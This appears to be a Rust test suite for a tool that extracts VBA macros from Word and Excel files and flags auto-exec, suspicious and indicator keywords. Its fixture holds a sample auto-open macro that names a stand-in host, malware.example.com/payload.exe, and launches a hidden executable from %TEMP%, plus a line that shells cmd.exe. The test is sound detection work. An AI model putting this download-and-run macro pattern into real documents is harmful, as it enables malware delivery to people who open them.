/*! End-to-end tests. */
use std::io::{Cursor, Write};

use pretty_assertions::assert_eq;
use zip::write::FileOptions;
use zip::{CompressionMethod, ZipWriter};

use crate::errors::{AnalysisError, CorruptStructureError, DecompressionError};
use crate::patterns::Category;
use crate::report::{Counters, ModuleOutcome};
use crate::vba::ModuleKind;
use crate::{analyze, Analyzer};


use cfb::{field, put_u32, CfbBuilder};
use project::ProjectBuilder;

const AUTO_OPEN: &str = "Attribute VB_Name = \"Module1\"\r\n\
Sub AutoOpen()\r\n\
    Dim url As String\r\n\
    url = \"http://malware.example.com/payload.exe\"\r\n\
    Set http = CreateObject(\"Microsoft.XMLHTTP\")\r\n\
    Shell Environ(\"TEMP\") & \"\\payload.exe\", vbHide\r\n\
End Sub\r\n";

const THIS_DOCUMENT: &str = "Attribute VB_Name = \"ThisDocument\"\r\n\
Attribute VB_Base = \"1Normal.ThisDocument\"\r\n\
Private Sub Document_Open()\r\n\
    AutoOpen\r\n\
End Sub\r\n";

fn malicious_project() -> ProjectBuilder {
    ProjectBuilder::new("Project")
        .reference("stdole")
        .document_module("ThisDocument", THIS_DOCUMENT)
        .module("Module1", AUTO_OPEN)
        .with_cache(517)
}

/// A Word document with a VBA project in `Macros/VBA`.
fn word_document(project: &ProjectBuilder) -> Vec<u8> {
    let mut cfb = CfbBuilder::new();
    cfb.add_path("WordDocument", &[0xEC, 0xA5, 0xC1, 0x00].repeat(300));
    cfb.add_path("1Table", &[0; 100]);
    project.add_to(&mut cfb, "Macros");
    cfb.build()
}

fn zip_archive(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, data) in parts {
        writer.start_file(*name, FileOptions::default()).unwrap();
        writer.write_all(data).unwrap();
    }
    writer.finish().unwrap().into_inner()
}

macro_rules! assert_corrupt {
    ($data:expr, $pattern:pat $(if $guard:expr)?) => {{
        match analyze($data) {
            Err(AnalysisError::CorruptStructure(err)) => {
                assert!(
                    matches!(err, $pattern $(if $guard)?),
                    "unexpected error: {:?}",
                    err
                );
            }
            other => panic!("expecting corrupt structure, got {:?}", other),
        }
    }};
}

#[test]
fn word_document_with_macros() {
    let data = word_document(&malicious_project());
    let report = analyze(&data).unwrap();

    assert!(report.has_macros());

    let project = report.project().unwrap();

    assert_eq!(project.info.name, "Project");
    assert_eq!(project.info.code_page, 1252);
    assert_eq!(project.info.references, vec!["stdole".to_string()]);
    assert_eq!(project.storage_path, "Macros/VBA");
    assert_eq!(project.package_part, None);

    let sources: Vec<_> = report.sources().collect();

    assert_eq!(sources.len(), 2);
    assert_eq!(sources[0].name, "ThisDocument");
    assert_eq!(sources[0].kind, ModuleKind::Document);
    assert_eq!(sources[0].stream_path, "Macros/VBA/ThisDocument");
    assert_eq!(sources[0].code, THIS_DOCUMENT);
    assert_eq!(sources[0].file_name(), "ThisDocument.cls");
    assert_eq!(sources[1].name, "Module1");
    assert_eq!(sources[1].code, AUTO_OPEN);
    assert_eq!(sources[1].file_name(), "Module1.bas");

    let findings = report.findings();
    let has = |module: &str, category: Category, keyword: &str| {
        findings.iter().any(|f| {
            f.module == module && f.category == category && f.keyword == keyword
        })
    };

    assert!(has("ThisDocument", Category::AutoExec, "Document_Open"));
    assert!(has("ThisDocument", Category::AutoExec, "AutoOpen"));
    assert!(has("Module1", Category::AutoExec, "AutoOpen"));
    assert!(has("Module1", Category::Suspicious, "CreateObject"));
    assert!(has("Module1", Category::Suspicious, "Microsoft.XMLHTTP"));
    assert!(has("Module1", Category::Suspicious, "Shell"));
    assert!(has("Module1", Category::Suspicious, "Environ"));
    assert!(has("Module1", Category::Suspicious, "vbHide"));
    assert!(has(
        "Module1",
        Category::Ioc,
        "http://malware.example.com/payload.exe"
    ));
    assert!(has("Module1", Category::Ioc, "payload.exe"));
    assert!(has("Module1", Category::VbaString, r"%TEMP%\payload.exe"));

    // Findings of the first module come first.
    let first_module1 =
        findings.iter().position(|f| f.module == "Module1").unwrap();
    assert!(findings[..first_module1]
        .iter()
        .all(|f| f.module == "ThisDocument"));
    assert!(findings[first_module1..].iter().all(|f| f.module == "Module1"));

    let counters = report.counters();

    assert_eq!(counters.autoexec, 3);
    assert_eq!(counters.vba_strings, 1);
    assert_eq!(
        counters.iocs,
        findings.iter().filter(|f| f.category == Category::Ioc).count()
    );
}

#[test]
fn excel_workbook_with_macros() {
    let project = ProjectBuilder::new("VBAProject")
        .document_module("ThisWorkbook", "Private Sub Workbook_Open()\r\nEnd Sub\r\n")
        .document_module("Sheet1", "");

    let mut cfb = CfbBuilder::new();
    cfb.add_path("Workbook", &[0x09, 0x08].repeat(2100));
    project.add_to(&mut cfb, "_VBA_PROJECT_CUR");

    let report = analyze(&cfb.build()).unwrap();
    let project = report.project().unwrap();

    assert_eq!(project.info.name, "VBAProject");
    assert_eq!(project.storage_path, "_VBA_PROJECT_CUR/VBA");
    assert_eq!(report.sources().count(), 2);
    assert_eq!(report.counters().autoexec, 1);
    assert_eq!(report.findings()[0].keyword, "Workbook_Open");
}

#[test]
fn no_macros() {
    let mut cfb = CfbBuilder::new();
    cfb.add_path("WordDocument", &[0; 1000]);
    cfb.add_path("\u{5}SummaryInformation", &[0; 200]);

    let report = analyze(&cfb.build()).unwrap();

    assert!(!report.has_macros());
    assert!(report.project().is_none());
    assert!(report.modules().is_empty());
    assert!(report.findings().is_empty());
    assert_eq!(report.counters(), &Counters::default());
}

#[test]
fn vba_storage_without_dir_is_ignored() {
    let mut cfb = CfbBuilder::new();
    cfb.add_path("Macros/VBA/Module1", &[1, 2, 3]);
    malicious_project().add_to(&mut cfb, "Other");

    let report = analyze(&cfb.build()).unwrap();

    assert_eq!(report.project().unwrap().storage_path, "Other/VBA");
}

#[test]
fn unsupported_format() {
    assert_eq!(analyze(b""), Err(AnalysisError::Format));
    assert_eq!(analyze(b"MZ\x90\x00"), Err(AnalysisError::Format));
    assert_eq!(analyze(&[0xD0, 0xCF, 0x11]), Err(AnalysisError::Format));
}

#[test]
fn idempotent() {
    let data = word_document(&malicious_project());
    assert_eq!(analyze(&data).unwrap(), analyze(&data).unwrap());
}

#[test]
fn version4_and_difat_sector() {
    let project = malicious_project();

    for builder in [CfbBuilder::new().version4(), CfbBuilder::new().difat_sector()]
    {
        let mut cfb = builder;
        project.add_to(&mut cfb, "Macros");
        let report = analyze(&cfb.build()).unwrap();

        assert_eq!(report.sources().count(), 2);
        assert_eq!(report.counters().autoexec, 3);
    }
}

#[test]
fn big_module() {
    // Bigger than the mini stream cutoff even after compression.
    let mut code = String::new();
    for i in 0..1000 {
        code.push_str(&format!("x{} = Chr({}) & \"{:x}\"\r\n", i, 65 + i % 26, i * 7919));
    }

    let project = ProjectBuilder::new("Big").module("Module1", &code);
    let report = analyze(&word_document(&project)).unwrap();

    assert_eq!(report.sources().next().unwrap().code, code);
    assert!(report.counters().vba_strings > 0);
}

#[test]
fn truncated_at_every_offset() {
    let data = word_document(&malicious_project());

    for len in 0..data.len() {
        assert!(analyze(&data[..len]).is_err(), "truncated at {}", len);
    }

    assert!(analyze(&data).is_ok());
}

#[test]
fn corrupted_bytes_never_panic() {
    let data = word_document(&malicious_project());

    for offset in 0..data.len() {
        let mut corrupted = data.clone();
        corrupted[offset] ^= 0xFF;
        let _ = analyze(&corrupted);
    }
}

#[test]
fn truncated_header() {
    let data = word_document(&malicious_project());
    assert_corrupt!(
        &data[..300],
        CorruptStructureError::TruncatedHeader { size: 300 }
    );
}

#[test]
fn fat_self_cycle() {
    let (mut data, layout) = {
        let mut cfb = CfbBuilder::new();
        malicious_project().add_to(&mut cfb, "Macros");
        cfb.build_with_layout()
    };

    let dir_sector = layout.dir_sectors[0];
    put_u32(&mut data, layout.fat_entry(dir_sector), dir_sector);

    assert_corrupt!(
        &data,
        CorruptStructureError::ChainCycle { sector, ref chain }
            if sector == dir_sector && chain == "directory"
    );
}

#[test]
fn stream_chain_cycle() {
    let mut cfb = CfbBuilder::new();
    let big = cfb.add_path("WordDocument", &[0x41; 5000]);
    malicious_project().add_to(&mut cfb, "Macros");

    let (mut data, layout) = cfb.build_with_layout();
    let first = layout.starts[big];

    // The second sector of the stream points back to the first one.
    put_u32(&mut data, layout.fat_entry(first + 1), first);

    assert_corrupt!(
        &data,
        CorruptStructureError::ChainCycle { sector, ref chain }
            if sector == first && chain == "WordDocument"
    );
}

#[test]
fn directory_cycle() {
    let mut cfb = CfbBuilder::new();
    let storage = cfb.add_storage(0, "Macros");
    cfb.add_stream(storage, "Stream", b"data");

    let (mut data, layout) = cfb.build_with_layout();

    // The child of `Macros` is the root storage.
    put_u32(&mut data, layout.dir_entry(storage) + field::CHILD, 0);

    assert_corrupt!(&data, CorruptStructureError::DirectoryCycle { entry: 0 });
}

#[test]
fn sibling_points_to_itself() {
    let mut cfb = CfbBuilder::new();
    let stream = cfb.add_stream(0, "Stream", b"data");

    let (mut data, layout) = cfb.build_with_layout();
    put_u32(&mut data, layout.dir_entry(stream) + field::RIGHT, stream as u32);

    assert_corrupt!(
        &data,
        CorruptStructureError::DirectoryCycle { entry } if entry == stream as u32
    );
}

#[test]
fn entry_out_of_range() {
    let mut cfb = CfbBuilder::new();
    cfb.add_stream(0, "Stream", b"data");

    let (mut data, layout) = cfb.build_with_layout();
    put_u32(&mut data, layout.dir_entry(0) + field::CHILD, 1000);

    assert_corrupt!(
        &data,
        CorruptStructureError::EntryOutOfRange { entry: 1000, parent: 0 }
    );
}

#[test]
fn stream_size_beyond_chain() {
    let mut cfb = CfbBuilder::new();
    let stream = cfb.add_stream(0, "Stream", &[0x41; 4100]);

    let (mut data, layout) = cfb.build_with_layout();
    cfb::put_u64(&mut data, layout.dir_entry(stream) + field::SIZE, 9000);

    assert_corrupt!(
        &data,
        CorruptStructureError::SizeMismatch { declared: 9000, .. }
    );
}

#[test]
fn missing_module_stream() {
    let project = malicious_project();

    let mut cfb = CfbBuilder::new();
    cfb.add_path("Macros/VBA/dir", &project.dir());
    cfb.add_path("Macros/VBA/ThisDocument", b"\x01");

    assert_corrupt!(
        &cfb.build(),
        CorruptStructureError::MissingModuleStream { ref module, ref stream }
            if module == "Module1" && stream == "Macros/VBA/Module1"
    );
}

#[test]
fn corrupt_dir_stream() {
    let mut cfb = CfbBuilder::new();
    cfb.add_path("Macros/VBA/dir", b"\x02\x00\x00");

    assert_corrupt!(
        &cfb.build(),
        CorruptStructureError::ProjectStream {
            err: DecompressionError::InvalidSignature { offset: 0, found: 2 },
            ..
        }
    );
}

#[test]
fn failed_module() {
    let project = ProjectBuilder::new("Project")
        .module("Module1", "Sub AutoOpen()\r\nEnd Sub\r\n")
        .module("Module2", "Shell \"cmd.exe\"\r\n")
        .with_raw_stream(&[0x01, 0x0A, 0x30, 0x00])
        .module("Module3", "Sub Workbook_Open()\r\nEnd Sub\r\n");

    let report = analyze(&word_document(&project)).unwrap();

    assert_eq!(report.modules().len(), 3);
    assert_eq!(report.sources().count(), 2);

    match &report.modules()[1] {
        ModuleOutcome::Failed { name, stream_path, error } => {
            assert_eq!(name, "Module2");
            assert_eq!(stream_path, "Macros/VBA/Module2");
            assert_eq!(
                error,
                &DecompressionError::TruncatedChunk { offset: 1 }
            );
        }
        other => panic!("unexpected outcome: {:?}", other),
    }

    assert!(report.findings().iter().all(|f| f.module != "Module2"));
    assert_eq!(report.counters().autoexec, 2);
    assert_eq!(report.counters().suspicious, 0);
}

#[test]
fn source_offset_beyond_stream() {
    let project = ProjectBuilder::new("Project")
        .module("Module1", "Sub AutoOpen()\r\nEnd Sub\r\n")
        .with_cache(100)
        .with_raw_stream(&[0; 10]);

    let report = analyze(&word_document(&project)).unwrap();

    assert!(matches!(
        &report.modules()[0],
        ModuleOutcome::Failed {
            error: DecompressionError::InvalidSourceOffset { offset: 100, size: 10 },
            ..
        }
    ));
}

#[test]
fn module_count_mismatch() {
    let project = malicious_project().module_count(3);

    assert_corrupt!(
        &word_document(&project),
        CorruptStructureError::InvalidProjectRecord { id: 0x000F, .. }
    );
}

#[test]
fn code_page_and_unicode_names() {
    let project = ProjectBuilder::new("Проект")
        .code_page(1251)
        .module_bytes("Модуль1", b"MsgBox \"\xcf\xf0\xe8\xe2\xe5\xf2\"\r\n")
        .module("Module2", "")
        .with_stream_name("Stream2")
        .without_unicode_names();

    let report = analyze(&word_document(&project)).unwrap();
    let sources: Vec<_> = report.sources().collect();

    // The project name is encoded in UTF-8 by the fixture, but decoded
    // with the project code page, only the module name has a Unicode
    // version.
    assert_eq!(report.project().unwrap().info.code_page, 1251);
    assert_eq!(sources[0].name, "Модуль1");
    assert_eq!(sources[0].code, "MsgBox \"Привет\"\r\n");
    assert_eq!(sources[1].name, "Module2");
    assert_eq!(sources[1].stream_path, "Macros/VBA/Stream2");
}

#[test]
fn package_with_vba_project_bin() {
    let project = malicious_project().to_cfb();
    let data = zip_archive(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<w:document/>"),
        ("word/vbaProject.bin", &project),
    ]);

    let report = analyze(&data).unwrap();
    let summary = report.project().unwrap();

    assert_eq!(summary.package_part.as_deref(), Some("word/vbaProject.bin"));
    assert_eq!(summary.storage_path, "VBA");
    assert_eq!(report.sources().count(), 2);
    assert_eq!(report.counters().autoexec, 3);
}

#[test]
fn package_prefers_vba_project_bin() {
    let embedded = ProjectBuilder::new("Embedded")
        .module("Module1", "Sub AutoClose()\r\nEnd Sub\r\n")
        .to_cfb();

    let main = malicious_project().to_cfb();

    let data = zip_archive(&[
        ("word/embeddings/oleObject1.bin", &embedded),
        ("word/vbaProject.bin", &main),
    ]);

    let report = analyze(&data).unwrap();
    assert_eq!(report.project().unwrap().info.name, "Project");

    // Without `vbaProject.bin` any compound file part is considered.
    let data = zip_archive(&[
        ("word/document.xml", b"<w:document/>"),
        ("word/embeddings/oleObject1.bin", &embedded),
    ]);

    let report = analyze(&data).unwrap();
    let summary = report.project().unwrap();

    assert_eq!(summary.info.name, "Embedded");
    assert_eq!(
        summary.package_part.as_deref(),
        Some("word/embeddings/oleObject1.bin")
    );
}

#[test]
fn package_with_vba_directory() {
    let project = malicious_project();
    let streams = project.streams();

    let mut parts: Vec<(String, &[u8])> = vec![(
        "[Content_Types].xml".to_string(),
        b"<Types/>".as_slice(),
    )];

    for (name, data) in &streams {
        parts.push((format!("xl/VBA/{}", name), data.as_slice()));
    }

    let parts: Vec<(&str, &[u8])> =
        parts.iter().map(|(name, data)| (name.as_str(), *data)).collect();

    let report = analyze(&zip_archive(&parts)).unwrap();
    let summary = report.project().unwrap();

    assert_eq!(summary.storage_path, "xl/VBA");
    assert_eq!(summary.package_part, None);
    assert_eq!(report.sources().count(), 2);
    assert_eq!(
        report.sources().next().unwrap().stream_path,
        "xl/VBA/ThisDocument"
    );
}

#[test]
fn package_with_unsupported_part() {
    let project = malicious_project().to_cfb();

    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    writer
        .start_file(
            "word/media/image1.emf",
            FileOptions::default().compression_method(CompressionMethod::Stored),
        )
        .unwrap();
    writer.write_all(b"not really an image").unwrap();
    writer
        .start_file("word/embeddings/oleObject1.bin", FileOptions::default())
        .unwrap();
    writer.write_all(&project).unwrap();

    let mut data = writer.finish().unwrap().into_inner();

    // Change the compression method of the first part to one that doesn't
    // exist, both in its local header and in the central directory.
    let eocd = data.len() - 22;
    let central_directory =
        u32::from_le_bytes(data[eocd + 16..eocd + 20].try_into().unwrap())
            as usize;

    data[8..10].copy_from_slice(&77_u16.to_le_bytes());
    data[central_directory + 10..central_directory + 12]
        .copy_from_slice(&77_u16.to_le_bytes());

    let report = analyze(&data).unwrap();
    let summary = report.project().unwrap();

    assert_eq!(
        summary.package_part.as_deref(),
        Some("word/embeddings/oleObject1.bin")
    );
    assert_eq!(report.sources().count(), 2);
}

#[test]
fn package_without_macros() {
    let data = zip_archive(&[
        ("[Content_Types].xml", b"<Types/>"),
        ("word/document.xml", b"<w:document/>"),
    ]);

    let report = analyze(&data).unwrap();
    assert!(!report.has_macros());
}

#[test]
fn corrupt_package() {
    assert_corrupt!(
        b"PK\x03\x04 this is not a zip archive",
        CorruptStructureError::Package { .. }
    );
}

#[test]
fn package_part_limit() {
    let project = malicious_project().to_cfb();
    let data = zip_archive(&[("word/vbaProject.bin", &project)]);

    let result = Analyzer::new().max_package_part_size(1000).analyze(&data);

    assert!(matches!(
        result,
        Err(AnalysisError::CorruptStructure(CorruptStructureError::Package { .. }))
    ));
}

#[test]
fn json_report() {
    let report = analyze(&word_document(&malicious_project())).unwrap();
    let json = serde_json::to_value(&report).unwrap();

    assert_eq!(json["project"]["name"], "Project");
    assert_eq!(json["project"]["storage_path"], "Macros/VBA");
    assert_eq!(json["modules"][0]["status"], "source");
    assert_eq!(json["modules"][0]["kind"], "document");
    assert_eq!(json["counters"]["autoexec"], 3);
    assert_eq!(json["findings"][0]["category"], "auto_exec");
}
